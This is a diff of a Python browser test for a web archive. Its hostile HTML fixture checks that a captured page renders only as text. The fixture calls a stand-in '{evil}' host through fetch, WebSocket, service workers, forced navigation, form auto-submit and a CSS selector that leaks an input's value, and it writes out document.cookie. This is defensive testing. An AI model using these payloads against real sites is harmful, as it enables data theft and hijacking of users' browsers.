@@ -1,5 +1,4 @@
-"""The pages in a real browser: nothing scrolls sideways on a phone, and of a hostile captured page
-nothing comes but its words."""
+"""Of a hostile captured page nothing comes in a real browser but its words."""
 
 import re
 import socket
@@ -13,63 +12,19 @@ from threading import Thread
 import chromium
 import httpx
 import pytest
-from browsing import a_run, browsing, path, save
+from browsing import browsing, path
 from conftest import Answer, Site
 from kept_pages import LANTERN, keep, page
 
 __all__ = ["path"]
 
-pytestmark = pytest.mark.slow  # one process and one browser for all of it
-
-PAGES = [
-    *("/", "/archive", "/archive?sql=select+*+from+articles", "/archive?sql=selct", "/nowhere"),
-    *("/archive/articles", "/archive/articles?_search=lantern&source=signet&section=Designs"),
-    *("/stories", "/stories?q=lantern", "/stories?q=lantern&section=Designs", "/help/searching"),
-    *(
-        "/stories?q=nothing",
-        "/stories/values?facet=author",
-        "/story/signet-1",
-        "/story/signet-1@1",
-        "/story/signet-9",
-    ),
-    *("/story/signet-1/changes/1/2", "/archive/runs", "/archive/runs/1", "/archive/by_year"),
-    *("/archive/changed", "/archive/doubtful", "/archive/links", "/archive/links/1"),
-    *(
-        "/archive/locations/1",
-        "/archive/versions",
-        "/archive/versions/1",
-        "/archive/sources/signet",
-    ),
-]
+pytestmark = pytest.mark.slow
 
 
 @pytest.fixture
 def tab(tmp_path: Path) -> Iterator[chromium.Tab]:
     with chromium.opened(tmp_path / "profile") as tab:
         yield tab
-
-
-def test_no_page_scrolls_sideways_on_a_phone(path: Path, tab: chromium.Tab) -> None:
-    long = "a" * 150
-    story = {
-        "site_id": "1",
-        "url": f"http://signet.example/news/{long}",
-        "section": "Designs",
-        "authors": [f"{long} Holm"],
-        "keywords": [long],
-        "confidence": 0.5,
-        "access": "registration",
-        "links": [{"kind": "in_text", "text": long, "url": f"http://rulings.example/{long}"}],
-    }
-    with a_run(path, reason=f"robots.txt forbids /{long}", state="failed") as writer:
-        save(writer, f"Lantern {long} refused", f"It was {long}.", **story)
-        save(writer, f"Lantern {long} upheld", f"It was not {long}.", **story)
-    with browsing(path) as served:
-        widths = {}
-        for address in PAGES:
-            tab.open(served.home + address, width=390)
-            widths[address] = tab.measure("document.documentElement.scrollWidth")
-    assert {address: width for address, width in widths.items() if width > 390} == {}
 
 
 @dataclass(frozen=True, kw_only=True)
@@ -108,11 +63,14 @@ HOSTILE = """<!doctype html><html manifest="{evil}/manifest"><head>
 <link rel="preconnect" href="{evil}"><link rel="prefetch" href="{evil}/prefetch">
 <link rel=stylesheet href={evil}/style.css><link rel="preload" as="image" href="{evil}/preload">
 <style>@import "{evil}/import.css"; @font-face {{ font-family: x; src: url({evil}/font) }}
+input[value^="s"] {{ background: url({evil}/begins-with-s) }}
 body {{ font-family: x; background: url({evil}/ground); margin: 0; min-height: 3000px }}</style>
 <script src="{evil}/script.js"></script>
 <script>
 top.location = "{evil}/top"; open("{evil}/window"); fetch("{evil}/fetch"); fetch("{home}/archive");
-document.cookie = "a=b"; document.write("SCRIPTS" + " RUN");
+document.cookie = "a=b"; document.write("SCRIPTS" + " RUN" + document.cookie);
+navigator.serviceWorker.register("{evil}/worker.js"); opener.location = "{evil}/opener";
+parent.location = "{evil}/parent"; localStorage.setItem("a", "b"); new WebSocket("{evil}");
 </script></head>
 <body onload="document.forms[0].submit()">
 <p>The lantern was refused.</p><img src="{evil}/image" onerror="document.write('SCRIPTS' + ' RUN')">
@@ -122,7 +80,8 @@ document.cookie = "a=b"; document.write("SCRIPTS" + " RUN");
 <iframe src="{home}/archive"></iframe><iframe src="/signet-2@1/page"></iframe>
 <object data="{evil}/object"></object><embed src="{evil}/embed">
 <svg><image href="{evil}/svg"/><use xlink:href="{evil}/use#a"/></svg>
-<form action="{evil}/form" method="post" target="_top"><button autofocus
+<input value="secret"><link rel="dns-prefetch" href="{evil}"><a href="{evil}/x" download autofocus>
+<math href="{evil}/math"></math><portal src="{evil}/portal"></portal><form action="{evil}/form" method="post" target="_top"><button autofocus
  style="position: fixed; left: 50%; top: 0; width: 50%; height: 100%">Send</button></form>
 <a href="{evil}/link" ping="{evil}/ping"
  style="position: fixed; left: 0; top: 0; width: 50%; height: 100%">Read on</a>
@@ -140,6 +99,7 @@ def test_of_a_hostile_captured_page_nothing_comes_but_its_words(
         keep(path, page(hostile, url=f"{LANTERN}/{'a' * 150}"))
         story = httpx.get(f"{served.home}/story/signet-1", follow_redirects=True).text
         [link] = {*re.findall('href="(http[^"]+/signet-1@1)"', story)}
+        tab.open(f"{served.home}/story/signet-1", width=800)  # whose cookies it must not see
         tab.open(link, width=800)
         tab.click(200, 600)
         tab.click(600, 600)
